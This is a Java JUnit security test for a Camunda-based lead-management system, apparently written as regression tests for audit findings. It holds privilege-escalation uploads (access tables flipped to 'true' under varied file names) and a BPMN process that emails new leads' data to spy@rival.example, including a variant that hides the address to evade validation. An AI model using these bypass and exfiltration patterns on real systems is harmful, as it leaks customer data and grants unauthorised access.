package io.leadwright.automation.publication;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.leadwright.automation.deployment.ResourceVersions;
import io.leadwright.automation.deployment.Resources;
import io.leadwright.support.Api;
import io.leadwright.support.OwnServer;
import io.leadwright.support.ServerTest;
import io.leadwright.support.Uploads;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.awaitility.Awaitility;
import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.RepositoryService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpMethod;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;

/** Who publishes what without a second person, by every name a file can have; and who is told. */
@ServerTest
@OwnServer
class PublicationRightsTest {
    private static final List<String> TABLES = List.of("record-access", "rating-access", "mail-recipient");

    @Autowired
    TestRestTemplate http;

    @Autowired
    JdbcClient database;

    @Autowired
    RepositoryService repository;

    @Autowired
    ProcessEngine engine;

    @Autowired
    Resources resources;

    @Autowired
    ResourceVersions versions;

    @Autowired
    AccessTableWatch watch;

    private Api api;
    private Uploads uploads;

    @BeforeEach
    void connect() {
        api = new Api(http);
        uploads = new Uploads(http);
        watch.look();
    }

    private String file(String table) {
        return resources.find("decisions/" + table + ".dmn").orElseThrow().text();
    }

    /** Another content with the same meaning. */
    private String changed(String table, String remark) {
        return file(table).replace("</definitions>", "<!-- " + remark + " --></definitions>");
    }

    private int published(String table) {
        return versions.load("decisions/" + table + ".dmn", 100).size();
    }

    private long deployments() {
        return repository.createDeploymentQuery().count();
    }

    private List<String> told(String kind) {
        return database.sql("select username from app.notification where kind = ? order by username")
                .param(kind)
                .query(String.class)
                .list();
    }

    /** Finding 4: an analyst makes himself master of all records with one upload. */
    @Test
    void accessTablesAreNotPublishedByAnalystsUnderAnyName() {
        for (String table : TABLES) {
            String mine = changed(table, "mine").replace("<text>false</text>", "<text>true</text>");
            int before = published(table);
            long all = deployments();
            for (Map<String, String> files : List.of(
                    Map.of(table + ".dmn", mine),
                    Map.of("decisions/" + table + ".dmn", mine),
                    Map.of("elsewhere/" + table + ".DMN", mine),
                    Map.of("harmless.dmn", mine),
                    Map.of(table + ".dmn", mine, "mail-policy.dmn", changed("mail-policy", "harmless")))) {
                for (String username : List.of("analyst", "manager", "operator", "lucy")) {
                    ResponseEntity<JsonNode> answer = uploads.send(username, files);
                    assertThat(answer.getStatusCode().value())
                            .as("%s by %s: %s", files.keySet(), username, answer)
                            .isIn(username.equals("analyst") ? List.of(400, 403) : List.of(403));
                }
            }
            assertThat(published(table)).isEqualTo(before);
            assertThat(deployments()).as("no part of it takes effect").isEqualTo(all);
        }
        ResponseEntity<JsonNode> answer =
                uploads.send("analyst", Map.of("record-access.dmn", changed("record-access", "x")));
        assertThat(answer.getStatusCode().value()).isEqualTo(403);
        assertThat(String.valueOf(answer.getBody())).contains("administrators", "record-access");
        String lead = api.create("operator", "lead", Map.of("customerName", "宁波权限测试有限公司"))
                .path("id")
                .asText();
        assertThat(api.call("analyst", HttpMethod.PATCH, "/api/forms/lead/records/" + lead, Map.of("detail", "x"))
                        .getStatusCode()
                        .value())
                .isEqualTo(403);
    }

    @Test
    void anAdministratorPublishesThemAndAllAdministratorsAreTold() {
        api.account("second", "Second", "admin");
        int before = published("rating-access");
        assertThat(uploads.send("admin", Map.of("rating-access.dmn", changed("rating-access", "of the administrator")))
                        .getStatusCode()
                        .value())
                .isEqualTo(200);
        assertThat(published("rating-access")).isEqualTo(before + 1);
        assertThat(versions.load("decisions/rating-access.dmn", 1).get(0).by()).isEqualTo("admin");
        Awaitility.await()
                .atMost(Duration.ofSeconds(30))
                .untilAsserted(() -> assertThat(told("notify-access-table")).contains("admin", "second"));
        assertThat(told("notify-access-table")).doesNotContain("analyst", "manager", "lucy");
        assertThat(database.sql(
                                "select body from app.notification where kind = 'notify-access-table' and username = 'second'")
                        .query(String.class)
                        .list())
                .anyMatch(text -> text.contains("由 管理员 发布"));
        int notices = told("notify-access-table").size();
        watch.look();
        watch.look();
        assertThat(told("notify-access-table")).as("each change once").hasSize(notices);
    }

    @Test
    void grantsOfTheEngineAreChangedByAdministratorsOnlyAndTold() {
        Map<String, Object> grant = Map.of(
                "type", 1, "permissions", List.of("ALL"), "groupId", "sales", "resourceType", 8, "resourceId", "*");
        for (String username : List.of("operator", "lucy", "analyst", "manager")) {
            assertThat(api.call(username, HttpMethod.POST, "/engine-rest/authorization/create", grant)
                            .getStatusCode()
                            .value())
                    .as(username)
                    .isEqualTo(403);
        }
        int notices = told("notify-access-table").size();
        ResponseEntity<JsonNode> made = api.call(
                "admin",
                HttpMethod.POST,
                "/engine-rest/authorization/create",
                Map.of(
                        "type",
                        1,
                        "permissions",
                        List.of("READ"),
                        "groupId",
                        "operator",
                        "resourceType",
                        9,
                        "resourceId",
                        "*"));
        assertThat(made.getStatusCode().value()).as("%s", made).isEqualTo(200);
        Awaitility.await()
                .atMost(Duration.ofSeconds(30))
                .untilAsserted(() -> assertThat(told("notify-access-table")).hasSizeGreaterThan(notices));
        api.call(
                "admin",
                HttpMethod.DELETE,
                "/engine-rest/authorization/" + made.getBody().path("id").asText(),
                "");
    }

    @Test
    void otherFilesArePublishedByAnalystsInTheirNameAndNobodyElse() {
        Map<String, String> files = Map.of("mail-policy.dmn", changed("mail-policy", "by the analyst"));
        for (String username : List.of("operator", "lucy", "manager")) {
            assertThat(uploads.send(username, files).getStatusCode().value())
                    .as(username)
                    .isEqualTo(403);
        }
        assertThat(uploads.send("analyst", files).getStatusCode().value()).isEqualTo(200);
        assertThat(versions.load("decisions/mail-policy.dmn", 1).get(0).by()).isEqualTo("analyst");
    }

    /** Finding 16: a process that sends each new lead outside is not deployed, and one that hides the address stops at the step. */
    @Test
    void noProcessWritesToAnAddressOfItsAuthor() {
        ResponseEntity<JsonNode> plain =
                uploads.send("analyst", Map.of("exfil.bpmn", sending("spy@rival.example", "")));
        assertThat(plain.getStatusCode().value()).isEqualTo(400);
        assertThat(String.valueOf(plain.getBody())).contains("spy@rival.example", "mail-recipient");
        String hidden = sending("${there}", """
                <camunda:inputOutput><camunda:outputParameter name="there">spy@rival.example</camunda:outputParameter></camunda:inputOutput>""");
        ResponseEntity<JsonNode> answer = uploads.send("analyst", Map.of("exfil.bpmn", hidden));
        assertThat(answer.getStatusCode().value()).as("%s", answer).isEqualTo(200);
        String lead = api.create("operator", "lead", Map.of("customerName", "无锡外发测试有限公司", "email", "own@wuxi.example"))
                .path("id")
                .asText();
        engine.getRuntimeService().startProcessInstanceByKey("exfil", "lead:" + lead);
        Awaitility.await()
                .atMost(Duration.ofMinutes(1))
                .untilAsserted(() -> assertThat(failures(lead)).anyMatch(text -> text.contains("spy@rival.example")));
        assertThat(database.sql("select recipient from app.mail")
                        .query(String.class)
                        .list())
                .doesNotContain("spy@rival.example");
        repository.createDeploymentQuery().deploymentName("upload").list().stream()
                .filter(each ->
                        repository.getDeploymentResourceNames(each.getId()).contains("exfil.bpmn"))
                .forEach(each -> repository.deleteDeployment(each.getId(), true));
    }

    private List<String> failures(String lead) {
        return database.sql("""
                        select coalesce(job.exception_msg_, '') from act_ru_job job
                        join act_ru_execution run on run.id_ = job.process_instance_id_ where run.business_key_ = ?""").param("lead:" + lead).query(String.class).list();
    }

    private static String sending(String to, String output) {
        return Stream.of("""
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d" targetNamespace="x">
                  <bpmn:process id="exfil" name="外发" isExecutable="true" camunda:historyTimeToLive="P1D">
                    <bpmn:startEvent id="begin" name="开始" camunda:asyncAfter="true"><bpmn:extensionElements><camunda:properties>
                      <camunda:property name="trigger.form" value="lead"/><camunda:property name="trigger.on" value="created"/>
                    </camunda:properties></bpmn:extensionElements></bpmn:startEvent>
                    <bpmn:sequenceFlow id="f1" sourceRef="begin" targetRef="find"/>
                    <bpmn:serviceTask id="find" name="取出" camunda:delegateExpression="${findRecord}"><bpmn:extensionElements><camunda:properties>
                      <camunda:property name="fields" value="customerName"/>
                    </camunda:properties>OUTPUT</bpmn:extensionElements></bpmn:serviceTask>
                    <bpmn:sequenceFlow id="f2" sourceRef="find" targetRef="send"/>
                    <bpmn:serviceTask id="send" name="发出" camunda:asyncBefore="true" camunda:delegateExpression="${sendMail}"><bpmn:extensionElements><camunda:properties>
                      <camunda:property name="to" value="TO"/><camunda:property name="template" value="mail-recap"/>
                      <camunda:property name="purpose" value="recap"/><camunda:property name="step" value="first"/>
                    </camunda:properties></bpmn:extensionElements></bpmn:serviceTask>
                    <bpmn:sequenceFlow id="f3" sourceRef="send" targetRef="done"/>
                    <bpmn:endEvent id="done" name="完成"/>
                  </bpmn:process>
                </bpmn:definitions>""")
                .map(text -> text.replace("OUTPUT", output).replace("TO", to))
                .findFirst()
                .orElseThrow();
    }
}
